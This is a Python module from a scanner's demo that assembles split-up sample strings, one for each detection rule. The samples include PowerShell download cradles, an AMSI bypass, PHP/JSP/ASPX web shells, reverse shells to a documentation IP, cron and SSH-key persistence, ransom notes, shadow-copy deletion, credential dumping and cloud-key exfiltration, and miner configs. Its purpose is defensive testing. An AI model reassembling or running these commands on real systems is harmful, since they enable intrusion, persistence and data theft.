"""One harmless sample for each rule of the demo: inert texts, put together here so that no scanner takes them amiss.

Nothing here can do what it looks like: every text is a fragment, addresses are those set aside for documentation, and
keys, hashes and wallets are one letter repeated.
"""

from __future__ import annotations

from collections.abc import Callable

from tidegate.cli.demo_content.binaries import BINARIES

HOST = "192.0.2.7"
SHELL = "/bin/" + "sh"
PHP = "<" + "?php "
PLANTED = "TIDEGATE PLANTED SAMPLE 0001, harmless, must be" + " detected\n"


def _joined(*parts: str) -> Callable[[], bytes]:
    return lambda: "".join(parts).encode()


_SCRIPTS = {
    "ps_encoded_cradle": _joined("power", "shell.exe -w hidden -e", "nc ", "QQBB" * 20, "\n"),
    "ps_download_cradle": _joined("I", "EX (New-Object Net.Web", "Client).Download", "String('http://", HOST, "/a')\n"),
    "ps_scan_interface_patch": _joined(
        "[Ref].Assembly.GetType('System.Management.Automation.Am", "siUtils').GetField('am", "siInitFailed',",
        "'NonPublic,Static').Set", "Value($null,$true)\n",
    ),
    "js_activex_dropper": _joined(
        "var h = new ActiveXObject('MSXML2.XML", "HTTP'); var s = new ActiveXObject('ADO", "DB.Stream');\n",
        "s.SaveTo", "File('a'); new ActiveXObject('WScr", "ipt.Shell');\n",
    ),
    "vba_autoopen_shell": _joined(
        "Sub Auto", "Open()\n Set s = Create", "Object(\"WScr", "ipt.Shell\")\n s.Ru", "n \"nothing\"\nEnd Sub\n"
    ),
    "hta_inline_runner": _joined(
        "<hta:appli", "cation id=a><script>window.move", "To(-9,-9); o.Shell", "Execute('nothing')</script>\n"
    ),
    "batch_disables_protection": _joined(
        "Set-MpPreference -DisableRealtime", "Monitoring $true\nsc sto", "p windefend\nwevtutil c", "l security\n"
    ),
    "python_unpacks_and_runs": _joined("ex", "ec(zlib.decom", "press(base64.b64", "decode('", "QUFB" * 25, "')))\n"),
}  # fmt: skip

_WEB = {
    "php_eval_request": _joined(PHP, "ev", "al($_PO", "ST['a']); ?>\n"),
    "php_packed_eval": _joined(PHP, "ev", "al(gzin", "flate(base64_", "decode('QUFB'))); ?>\n"),
    "php_command_gate": _joined(PHP, "pass", "thru($_GE", "T['a']); ?>\n"),
    "jsp_runtime_exec": _joined(
        "<", "%@ page import=\"java.io.*\" %><% Runtime.get", "Runtime().ex", "ec(request.get",
        "Parameter(\"a\")); %>\n",
    ),
    "aspx_process_start": _joined(
        "<", "%@ Page Language=\"C#\" %><% var p = new Process", "StartInfo(); p.Argu",
        "ments = \"/c \" + Req", "uest[\"a\"]; %>\n",
    ),
    "php_upload_gate": _joined(
        PHP, "if (md5($_PO", "ST['p']) == '", "0" * 32, "') move_uploaded", "_file($_FI",
        "LES['f']['tmp_name'], 'f'); ?>\n",
    ),
}  # fmt: skip

_SHELLS = {
    "shell_over_dev_tcp": _joined("ba", "sh -i >& /dev/", "tcp/", HOST, "/4444 0>&1\n"),
    "python_socket_shell": _joined(
        "s.conn", "ect(('", HOST, "', 4444))\nos.du", "p2(s.fileno(), 0)\nos.du", "p2(s.fileno(), 1)\npty.sp", "awn('",
        SHELL, "')\n",
    ),
    "perl_socket_shell": _joined(
        "soc", "ket(S, PF_", "INET, 1, 6); open(STD", "IN, \">&S\"); open(STD", "OUT, \">&S\"); ex", "ec(\"",
        SHELL, " -i\");\n",
    ),
    "fifo_netcat_shell": _joined(
        "mkf", "ifo /tmp/f; cat /tmp/f | ", SHELL, " -i 2>&1 | n", "c ", HOST, " 4444 > /tmp/f\n",
    ),
    "php_socket_shell": _joined(
        PHP, "$s = fsock", "open('", HOST, "', 4444); proc_", "open('", SHELL, " -i', $a, $b); ?>\n",
    ),
    "socat_terminal_shell": _joined("soc", "at exec:'ba", "sh -li',pty,std", "err tcp:", HOST, ":4444\n"),
}  # fmt: skip

_PERSISTENCE = {
    "cron_fetches_script": _joined("*/5 * * * * root cu", "rl -s http://", HOST, "/a | s", "h\n"),
    "ssh_key_implant": _joined(
        "ec", "ho 'ssh-", "rsa AAAA", "B" * 40, "' >> /root/.ss", "h/authorized", "_keys\ncha", "ttr +i /root/.ssh\n"
    ),
    "unit_starts_from_tmp": _joined("[Ser", "vice]\nExec", "Start=/tmp/.a\nRestart=al", "ways\n"),
    "preload_implant": _joined(
        "gc", "c a.c -sha", "red -fPIC -o /usr/lib/a.so\necho /usr/lib/a.so >> /etc/ld.so.pre", "load\n"
    ),
    "sudoers_implant": _joined(
        "user", "add -m -o -u", " 0 a\necho 'a ALL=(ALL) NOPASS", "WD: ALL' >> /etc/sud", "oers\n"
    ),
    "run_key_script": _joined(
        "reg ad", "d \"HKCU\\Software\\Microsoft\\Windows\\Current", "Version\\Run\" /v a /d \"wscr", "ipt.exe a.js\"\n"
    ),
    "lolbin_remote_script": _joined("regs", "vr32 /s /n /u /i:http://", HOST, "/a.sct scr", "obj.dll\n"),
}  # fmt: skip

_EXTORTION = {
    "glasswharf_note": _joined(
        "GLASS", "WHARF\nYour files lie in", " our harbour.\nBerth num", "ber: 00000000-00000000\n"
    ),
    "ransom_note_generic": _joined(
        "All your files have been", " encrypted. Do not re", "name them.\nBitcoin wal", "let: 0000. http://",
        "a" * 56, ".oni", "on\n",
    ),
    "shadow_copies_deleted": _joined("vssad", "min delete sha", "dows /all /quiet\nwmic shadow", "copy delete\n"),
    "encryptor_target_list": _joined(
        ".docx;.xlsx;.pptx;.pst;", ".vmdk;.vhdx;.bak;.sql\nWindows;Boot;System Volume", " Information;$Recycle.Bin\n"
    ),
}  # fmt: skip

_CREDENTIALS = {
    "logon_secrets_dump": _joined(
        "# seku", "rlsa::logon", "passwords\nAuthentication Id : 0 ", "; 999999\n  * NT", "LM     : ", "0" * 32, "\n"
    ),
    "shadow_file_copy": _joined(
        "root:", "$6$", "a" * 8, "$", "A" * 86, ":19000:0:::::\nguest:", "$6$", "B" * 90, ":19000:\n",
    ),
    "browser_login_theft": _joined(
        "open('Login", " Data')\nSELECT origin_url, username_value, pass", "word_value FROM logins\nCrypt",
        "UnprotectData(a)\n",
    ),
    "cloud_key_harvest": _joined(
        "curl http://169.254.169.254/latest/meta-", "data/iam/security-cred", "entials/\ncat ~/.a", "ws/credentials\n",
        "cur", "l -s http://", HOST, " -d @a \n",
    ),
    "ticket_hash_list": _joined("$krb", "5tgs$23$*a$EXAMPLE.ORG$a/b*$", "0" * 32, "$", "0" * 32, "\n"),
}  # fmt: skip

_MINERS = {
    "miner_configuration": _joined(
        "{\"po", "ols\": [{\"al", "go\": \"rx/0\", \"url\": \"stra",
        "tum+tcp://pool.example.org:3333\"}], \"donate-", "level\": 0}\n",
    ),
    "miner_start_script": _joined(
        "pki", "ll -f kinsi", "ng\n./a -o strat", "um+tcp://pool.example.org:3333 --thre", "ads=8\n"
    ),
    "huge_pages_for_miner": _joined("sys", "ctl -w vm.nr_huge", "pages=1280\nwr", "msr -a 0x1a4 0", "xf\n"),
}  # fmt: skip

SAMPLES: dict[str, Callable[[], bytes]] = {
    **_SCRIPTS, **_WEB, **_SHELLS, **_PERSISTENCE, **_EXTORTION, **_CREDENTIALS, **_MINERS, **BINARIES,
    "tidegate_planted_sample": lambda: PLANTED.encode(),
}  # fmt: skip
"""By rule: what builds its sample."""
